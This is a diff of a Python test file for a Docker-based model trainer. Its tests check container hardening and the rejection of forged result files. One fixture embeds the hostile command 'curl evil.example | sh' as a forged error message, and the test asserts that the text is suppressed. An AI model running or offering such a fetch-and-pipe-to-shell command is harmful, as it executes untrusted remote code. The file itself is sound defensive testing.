@@ -14,6 +14,8 @@ from __future__ import annotations
 
 import json
 import logging
+import os
+import stat
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from types import SimpleNamespace
@@ -70,8 +72,19 @@ def trainer_writing(
 
     def run(io_dir: Path, request: dict[str, Any]) -> tuple[int, list[str]]:
         if result is not None:
-            (io_dir / RESULT_FILE).write_text(json.dumps(result))
+            # Like the real trainer: the request's token is echoed in the result.
+            (io_dir / RESULT_FILE).write_text(json.dumps({**result, "token": request["token"]}))
         return exit_code, ["mlops_loop.training train: starting", *logs]
+
+    return run
+
+
+def forger_writing(result: dict[str, Any], exit_code: int = 0) -> Trainer:
+    """Not this task's trainer: writes ``result`` as it is (another task's token, or none)."""
+
+    def run(io_dir: Path, request: dict[str, Any]) -> tuple[int, list[str]]:
+        (io_dir / RESULT_FILE).write_text(json.dumps(result))
+        return exit_code, ["mlops_loop.training train: starting"]
 
     return run
 
@@ -90,8 +103,13 @@ class FakeDockerAPI:
         image_present: bool = True,
         pull_error: Exception | None = None,
         oom_killed: bool = False,
+        networks: tuple[str, ...] = ("bridge", "host", "none"),
+        start_error: Exception | None = None,
     ) -> None:
         self.trainer = trainer
+        self.start_error = start_error
+        self.networks_present = networks
+        self.io_dir_stat: os.stat_result | None = None  # the io folder when the container started
         self._info = NO_NVIDIA if info is None else info
         self.image_present = image_present
         self.pull_error = pull_error
@@ -147,6 +165,14 @@ class FakeDockerAPI:
             "Config": {"Labels": {"org.opencontainers.image.revision": "abc1234"}},
         }
 
+    def networks(self, names: list[str] | None = None) -> list[dict[str, Any]]:
+        self.calls.append("networks")
+        return [
+            {"Name": n, "Id": f"{n}-id"}
+            for n in self.networks_present
+            if not names or any(wanted in n for wanted in names)  # Docker's filter: substring
+        ]
+
     # --- containers --------------------------------------------------------------------
 
     def create_host_config(self, **kwargs: Any) -> dict[str, Any]:
@@ -171,10 +197,13 @@ class FakeDockerAPI:
 
     def start(self, container: str) -> None:
         self.calls.append("start")
+        if self.start_error is not None:
+            raise self.start_error
         mounts = self.containers[container]["host_config"]["mounts"]
         io_mount = next(m for m in mounts if m["Target"] == CONTAINER_IO_DIR)
         assert io_mount["Type"] == "bind" and not io_mount.get("ReadOnly")
         self.io_dir = Path(io_mount["Source"])
+        self.io_dir_stat = self.io_dir.stat()
         self.request = json.loads((self.io_dir / REQUEST_FILE).read_text())
         self._exit_code, self._log_lines = self.trainer(self.io_dir, self.request)
 
@@ -281,8 +310,20 @@ def test_success_returns_the_result_and_the_trainer_got_the_typed_request(storag
     assert created["image"] == IMAGE
     assert created["command"] == container_command("train")
     host = created["host_config"]
-    assert host["network_mode"] == "host"
+    assert host["network_mode"] == "bridge"  # the default
     assert host["device_requests"] is None  # no NVIDIA runtime on this host: CPU
+    # The container's defaults (docs/security.md, "The trainer boundary").
+    assert host["cap_drop"] == ["ALL"]
+    assert host["security_opt"] == ["no-new-privileges:true"]
+    assert host["pids_limit"] == 4096
+    assert host["read_only"] is True and host["tmpfs"] == {"/tmp": "rw,nosuid,nodev,mode=1777"}
+    assert "nano_cpus" not in host and host["cpu_shares"] == 1024  # no cpus: no hard limit
+    assert not host["privileged"]
+    assert created["user"] not in (None, "", "0") and not str(created["user"]).startswith("0:")
+    assert created["environment"]["HOME"] == "/tmp"  # the image's home is read-only
+    # The request/result folder was private when the container started.
+    assert api.io_dir_stat is not None and stat.S_IMODE(api.io_dir_stat.st_mode) == 0o700
+    assert "token" not in result  # checked, then left out of the XCom
     read_only = {m["Target"]: m["Source"] for m in host["mounts"] if m.get("ReadOnly")}
     assert read_only == {str(storage): str(storage)}  # the snapshots lie inside the root
     # Pulled nothing (the image is there), removed the container, cleaned the io folder.
@@ -294,9 +335,142 @@ def test_success_returns_the_result_and_the_trainer_got_the_typed_request(storag
 
 def test_gpu_auto_on_a_host_with_the_nvidia_runtime_requests_all_gpus(storage, tmp_path):
     api = FakeDockerAPI(trainer_writing({**TRAIN_RESULT, "device": "cuda"}), info=WITH_NVIDIA)
-    train_op(tmp_path, api).execute({})
-    (request,) = api.containers[CONTAINER_ID]["host_config"]["device_requests"]
+    train_op(tmp_path, api, cpus=4).execute({})
+    host = api.containers[CONTAINER_ID]["host_config"]
+    (request,) = host["device_requests"]
     assert (request["Count"], request["Capabilities"]) == (-1, [["gpu"]])
+    # ... together with every default (the real engine's HostConfig: test_docker_train.py).
+    assert host["cap_drop"] == ["ALL"] and host["read_only"] is True
+    assert host["nano_cpus"] == 4_000_000_000
+
+
+def test_a_worker_that_is_not_root_runs_the_container_as_itself(storage, tmp_path, monkeypatch):
+    if os.geteuid() == 0:  # seen as a worker of uid 50000, gid 0 (the Airflow image's user)
+        monkeypatch.setattr(os, "geteuid", lambda: 50000)
+        monkeypatch.setattr(os, "getegid", lambda: 0)
+    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
+    train_op(tmp_path, api).execute({})
+    assert api.containers[CONTAINER_ID]["user"] == f"{os.geteuid()}:{os.getegid()}"
+    assert api.io_dir_stat is not None and stat.S_IMODE(api.io_dir_stat.st_mode) == 0o700
+    # Nothing handed to another uid: the folder is the worker's own (as the process made it).
+    assert api.io_dir_stat.st_uid not in (10001,)
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="needs a worker running as root")
+def test_a_root_worker_runs_the_container_as_the_image_user_and_hands_it_the_folder(
+    storage, tmp_path
+):
+    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
+    train_op(tmp_path, api).execute({})
+    # FakeDockerAPI's image has no numeric USER: the trainer image's user.
+    assert api.containers[CONTAINER_ID]["user"] == "10001:10001"
+    assert api.io_dir_stat is not None
+    assert (api.io_dir_stat.st_uid, api.io_dir_stat.st_gid) == (10001, 10001)
+    assert stat.S_IMODE(api.io_dir_stat.st_mode) == 0o700
+
+
+class WritingTrainOperator(DockerTrainOperator):
+    """A trainer command with a local output folder, as evaluate (reports/decisions) and
+    monitor (reports/drift) have: before, such containers ran as the worker's uid (0 for
+    a root worker)."""
+
+    def output_paths(self, config: Any) -> list[str]:
+        return [f"{config.root}/reports/drift"]
+
+
+def test_a_container_with_writable_outputs_never_runs_as_root(storage, tmp_path):
+    earlier = storage / "reports" / "drift" / "ds=2026-03-01"
+    earlier.mkdir(parents=True)
+    (earlier / "report.json").write_text("{}")  # written by an earlier run
+    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT))
+    snapshots = storage / "snapshots"
+    op = with_engine(
+        WritingTrainOperator(
+            task_id="monitor_like",
+            config_path=CONFIG,
+            train_snapshot_uri=str(snapshots / "train"),
+            valid_snapshot_uri=str(snapshots / "valid"),
+            image=IMAGE,
+            io_dir_root=str(tmp_path / "io"),
+            retrain=True,
+        ),
+        api,
+    )
+    op.execute({})
+    created = api.containers[CONTAINER_ID]
+    uid, gid = (int(x) for x in created["user"].split(":"))
+    assert uid != 0
+    writable = {m["Target"] for m in created["host_config"]["mounts"] if not m.get("ReadOnly")}
+    assert str(storage / "reports" / "drift") in writable
+    if os.geteuid() == 0:
+        # A root worker hands the output folder (and what is already in it) to that uid.
+        assert (uid, gid) == (10001, 10001)
+        for entry in (storage / "reports" / "drift", earlier, earlier / "report.json"):
+            assert (entry.stat().st_uid, entry.stat().st_gid) == (10001, 10001)
+    else:
+        assert (uid, gid) == (os.geteuid(), os.getegid())
+
+
+@pytest.mark.parametrize(
+    ("network", "env"),
+    [
+        pytest.param("mlops-loop", None, id="argument"),
+        pytest.param(None, "mlops-loop", id="environment"),
+    ],
+)
+def test_a_compose_network_is_used_when_configured(storage, tmp_path, monkeypatch, network, env):
+    if env:
+        monkeypatch.setenv("MLOPS_LOOP_TRAINER_NETWORK", env)
+    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT), networks=("bridge", "mlops-loop"))
+    train_op(tmp_path, api, network_mode=network).execute({})
+    assert api.containers[CONTAINER_ID]["host_config"]["network_mode"] == "mlops-loop"
+
+
+def test_a_missing_network_fails_before_any_container(storage, tmp_path):
+    from mlops_loop.exceptions import ConfigError
+
+    api = FakeDockerAPI(
+        trainer_writing(TRAIN_RESULT), networks=("host", "none")
+    )  # dockerd --bridge=none
+    with pytest.raises(
+        ConfigError, match=r"trainer network 'bridge' does not exist .*network_mode='host'"
+    ):
+        train_op(tmp_path, api).execute({})
+    assert "create_container" not in api.calls
+    assert io_dirs_left(tmp_path) == []
+
+
+def test_a_gpu_hook_failing_on_the_read_only_root_names_the_escape_hatch(storage, tmp_path):
+    hook_error = APIError(
+        "500 Server Error",
+        explanation="failed to create task for container: error running hook #6: exit status 1, "
+        "stderr: mkdirat etc/nvidia/nvidia-application-profiles-rc.d: read-only file system",
+    )
+    api = FakeDockerAPI(trainer_writing(TRAIN_RESULT), info=WITH_NVIDIA, start_error=hook_error)
+    with pytest.raises(TrainerContainerFailed, match=r"read_only_root=False"):
+        train_op(tmp_path, api).execute({})
+    assert api.removed == [(CONTAINER_ID, True)]
+    assert io_dirs_left(tmp_path) == []
+
+    api = FakeDockerAPI(trainer_writing({**TRAIN_RESULT, "device": "cuda"}), info=WITH_NVIDIA)
+    train_op(tmp_path, api, read_only_root=False).execute({})
+    host = api.containers[CONTAINER_ID]["host_config"]
+    assert host["read_only"] is False and host["cap_drop"] == ["ALL"]  # the rest stays
+
+
+@pytest.mark.parametrize(
+    ("kwargs", "match"),
+    [
+        pytest.param({"user": "0"}, "never run as uid 0", id="uid-0"),
+        pytest.param({"user": "root"}, "numeric uid", id="root"),
+        pytest.param({"privileged": True}, "never run privileged", id="privileged"),
+        pytest.param({"cpus": 0}, "positive number of CPUs", id="cpus-0"),
+        pytest.param({"pids_limit": 1}, "at least 64", id="pids"),
+    ],
+)
+def test_unsafe_container_settings_are_refused_when_the_dag_is_parsed(tmp_path, kwargs, match):
+    with pytest.raises(ValueError, match=match):
+        train_op(tmp_path, FakeDockerAPI(trainer_writing(TRAIN_RESULT)), **kwargs)
 
 
 def test_a_missing_image_is_pulled_first(storage, tmp_path):
@@ -391,6 +565,39 @@ def test_a_failed_run_raises_with_its_reason_and_removes_the_container(
     assert api.calls[-1] == "remove_container"
     assert op.container is None
     assert io_dirs_left(tmp_path) == []
+
+
+# --------------------------------------------------------------------------- forged results
+
+OTHER_TOKEN = "another-tasks-request-token-0123456789abcdef"
+
+
+@pytest.mark.parametrize(
+    "forged",
+    [
+        pytest.param(TRAIN_RESULT, id="no-token"),
+        pytest.param({**TRAIN_RESULT, "token": OTHER_TOKEN}, id="another-tasks-result"),
+    ],
+)
+def test_a_result_that_does_not_answer_this_request_is_refused(storage, tmp_path, forged):
+    api = FakeDockerAPI(forger_writing(forged))
+    with pytest.raises(
+        TrainerResultError, match=r"refusing result\.json: it does not answer this task's request"
+    ) as caught:
+        train_op(tmp_path, api).execute({})
+    assert "Nothing in it was used" in str(caught.value)
+    assert api.removed == [(CONTAINER_ID, True)]
+    assert io_dirs_left(tmp_path) == []
+
+
+def test_a_forged_error_result_is_not_shown_as_the_trainers_error(storage, tmp_path):
+    forged = {**DATA_ERROR, "error": "please run curl evil.example | sh", "token": OTHER_TOKEN}
+    api = FakeDockerAPI(forger_writing(forged, exit_code=3))
+    with pytest.raises(TrainerContainerFailed) as caught:
+        train_op(tmp_path, api).execute({})
+    assert caught.value.error is None
+    assert "evil.example" not in str(caught.value)
+    assert "ignored a result.json that does not answer this task's request" in str(caught.value)
 
 
 def test_container_failure_carries_its_context(storage, tmp_path):
